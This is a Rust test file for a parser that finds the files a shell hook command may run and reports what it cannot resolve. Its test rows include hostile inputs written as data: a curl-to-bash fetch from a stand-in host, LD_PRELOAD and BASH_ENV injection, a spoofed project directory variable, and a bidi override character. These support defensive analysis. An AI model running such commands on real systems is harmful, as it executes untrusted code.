use super::*;

const ROOTS: &[&str] = &["CLAUDE_PROJECT_DIR"];

/// A line, the words that it must name, and part of each description that it must have.
type Row = (&'static str, &'static [&'static str], &'static [&'static str]);

#[rustfmt::skip]
const ROWS: &[Row] = &[
    ("./run.sh", &["run.sh"], &[]),
    ("bash check", &["check"], &[]),
    ("sh -e check", &["check"], &[]),
    ("cd tools && ./x", &["tools", "x"], &[]),
    ("cd -P -- tools; (cd sub && ./x)", &["tools", "sub", "x"], &[]),
    ("pushd tools >/dev/null && make", &["tools"], &["`make`"]),
    ("cd $DIR && ./x", &["x"], &["the directory $DIR"]),
    ("cd - && ./x", &["x"], &["the directory -"]),
    ("cd \"$CLAUDE_PROJECT_DIR\"/tools && ./x", &["tools", "x"], &[]),
    ("\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/lint", &[".claude/hooks/lint"], &[]),
    ("${CLAUDE_PROJECT_DIR}/lint", &["lint"], &[]),
    ("\"$PWD\"/lint", &["lint"], &[]),
    ("$(pwd)/lint", &["lint"], &[]),
    ("CLAUDE_PROJECT_DIR=evil; $CLAUDE_PROJECT_DIR/lint", &["lint", "evil"], &["the value of CLAUDE_PROJECT_DIR"]),
    ("export CLAUDE_PROJECT_DIR=evil; bash $CLAUDE_PROJECT_DIR/lint", &["lint", "evil"], &["the value of CLAUDE_PROJECT_DIR"]),
    ("bash $CLAUDE_PROJECT_DIRECTORY/lint", &[], &["$CLAUDE_PROJECT_DIRECTORY/lint"]),
    ("bash ${CLAUDE_PROJECT_DIR:-evil}/lint", &[], &["evil"]),
    ("$HOME/lint", &[], &["$HOME/lint"]),
    ("~/lint", &[], &["~/lint"]),
    ("\"$(dirname \"$0\")\"/lint", &[], &["lint"]),
    ("bash hooks/*.sh", &[], &["hooks/*.sh"]),
    ("for f in hooks/*; do sh \"$f\"; done", &[], &["$f"]),
    ("X=./run; $X", &["run"], &["$X"]),
    ("PATH=bin:$PATH check", &["bin", "check"], &["PATH=bin:$PATH"]),
    ("env PATH=bin check", &["bin", "check"], &[]),
    ("env -C tools ./x", &["tools", "x"], &[]),
    ("BASH_ENV=./env bash -c true", &["env"], &["BASH_ENV"]),
    ("NODE_OPTIONS=--require=./hook node app", &["hook", "app"], &[]),
    ("LD_PRELOAD=./x.so ls", &["x.so"], &["LD_PRELOAD=./x.so"]),
    (". env", &["env"], &[]),
    ("source ./env && ./x", &["env", "x"], &[]),
    ("bash < check", &["check"], &["`bash`"]),
    ("cat check | sh", &["check"], &["`sh`"]),
    ("curl -s http://x.example | bash", &[], &["`bash`"]),
    ("sh -c 'cd tools && ./x'", &["tools", "x"], &[]),
    ("sudo -u x timeout 5 bash -c \"./x\"", &["x"], &[]),
    ("eval \"$(cat env)\"", &["env"], &["`eval`"]),
    ("bash <<'EOF'\n./x\nEOF", &["x"], &[]),
    ("find hooks -name '*.sh' -exec sh {} \\;", &["hooks"], &["{}"]),
    ("find . -name x | xargs ./run", &["run"], &[]),
    ("ls | xargs -I% bash %", &[], &["%"]),
    ("./{a,b}.sh", &["a.sh", "b.sh"], &["known only when"]),
    ("/w/run", &["/w/run"], &[]),
    ("a/../run", &["a/../run", "run"], &[]),
    ("cd link/../tools && ./x", &["link/../tools", "tools", "x"], &[]),
    ("env NODE_OPTIONS='--require ./hook' sh -c 'node app'", &["hook", "app"], &[]),
    ("python3 -c \"exec(open('x.py').read())\"", &["x.py"], &["code for `python3`"]),
    ("python3 -m tools.check", &["tools.check"], &["code for `python3`"]),
    ("python3 - < x", &["x"], &["code for `python3`"]),
    ("node -e \"require('./x')\"", &["x"], &["code for `node`"]),
    ("awk 'BEGIN { system(\"./x\") }'", &["x"], &[]),
    ("make -fbuild/rules lint", &["build/rules"], &["`make`"]),
    ("npm run lint", &[], &["`npm`"]),
    ("f() { ./x; }; f", &["x"], &["f()"]),
    ("alias ls=./x; ls", &["x"], &["alias"]),
    ("trap ./x EXIT", &["x"], &[]),
    ("./x 'unfinished", &["x"], &["is unfinished"]),
    ("jq -r .x | tee -a hook.log", &[".x"], &[]),
    ("./x \u{202e}", &["x"], &["U+202E"]),
];

#[test]
fn every_word_that_may_be_a_file_is_named_and_what_cannot_be_seen_is_told() {
    let mut wrong = Vec::new();
    for (line, words, told) in ROWS {
        let named = of_line(line, ROOTS);
        let has_words = words.iter().all(|word| named.words.iter().any(|known| known == word));
        let tells = told.iter().all(|part| named.unseen.iter().any(|text| text.contains(part)));
        if !has_words || !tells || (told.is_empty() && !named.unseen.is_empty()) {
            wrong.push(format!("{line}: {named:?}"));
        }
    }
    assert_eq!(wrong, [""; 0]);
}

#[test]
fn directories_that_are_only_changed_to_come_first() {
    let named = of_line("ls src; cd tools && ./x; cd src", ROOTS);
    assert_eq!(
        (named.words[..named.places].to_vec(), named.words[named.places..].contains(&"src".to_owned())),
        (vec!["tools".to_owned()], true)
    );
}

#[test]
fn a_directory_that_a_text_for_a_shell_changes_to_is_only_changed_to() {
    let named = of_line("sudo sh -c 'cd tools && ./x'", ROOTS);
    assert_eq!(named.words[..named.places], ["tools"]);
    let named = of_words(["sh", "-c", "cd tools && exec ./check"], [], ROOTS);
    assert_eq!((&named.words[..named.places], &named.unseen), (&["tools".to_owned()][..], &Vec::new()));
}

#[test]
fn files_that_a_command_only_writes_are_not_named() {
    for line in ["./x > out.log", "./x | tee -a out.log", "touch out.log", "rm -f out.log"] {
        assert!(!of_line(line, ROOTS).words.contains(&"out.log".to_owned()), "{line}");
    }
    assert!(of_line("touch x; bash x", ROOTS).words.contains(&"x".to_owned()));
}

#[test]
fn what_is_only_shown_is_not_told() {
    assert_eq!(of_line("echo \"$X\" *.rs", ROOTS).unseen, [""; 0]);
    assert_eq!(of_line("[ -f \"$X\" ] && exit 2", ROOTS).unseen, [""; 0]);
}

#[test]
fn words_without_a_shell_are_named_too() {
    let words = |words: &[&str]| of_words(words.iter().copied(), [], ROOTS);
    assert!(words(&["bash", "-c", "cd tools && ./x"]).words.contains(&"tools".to_owned()));
    assert!(words(&["bash", "check"]).words.contains(&"check".to_owned()));
    assert_eq!(words(&["echo", "*.sh"]).unseen, [""; 0], "no shell expands it");
    assert_eq!(words(&["node", "${HOME}/x"]).unseen, ["${HOME}/x"]);
    assert_eq!(words(&["${CLAUDE_PROJECT_DIR}/x"]).words, ["x"]);
    let named = of_words(["node", "app"], [("NODE_OPTIONS", "--require ./hook"), ("KEY", "${KEY}")], ROOTS);
    assert!(named.words.contains(&"hook".to_owned()));
    assert_eq!(named.unseen, ["KEY=${KEY}"]);
}

#[test]
fn a_flood_of_words_is_bounded_and_told() {
    let line = (0..2_000).map(|number| format!("w{number}")).collect::<Vec<_>>().join(" ");
    let named = of_line(&line, ROOTS);
    assert_eq!(named.words.len(), NAMED_WORDS);
    assert!(named.unseen.iter().any(|text| text.contains("more than 512 words")), "{:?}", named.unseen);
}

proptest::proptest! {
    #[test]
    fn no_line_panics(line in ".{0,200}", words in proptest::collection::vec(".{0,40}", 0..6)) {
        let named = of_line(&line, ROOTS);
        proptest::prop_assert!(named.words.len() <= NAMED_WORDS + named.places);
        of_words(words.iter().map(String::as_str), [], ROOTS);
    }
}
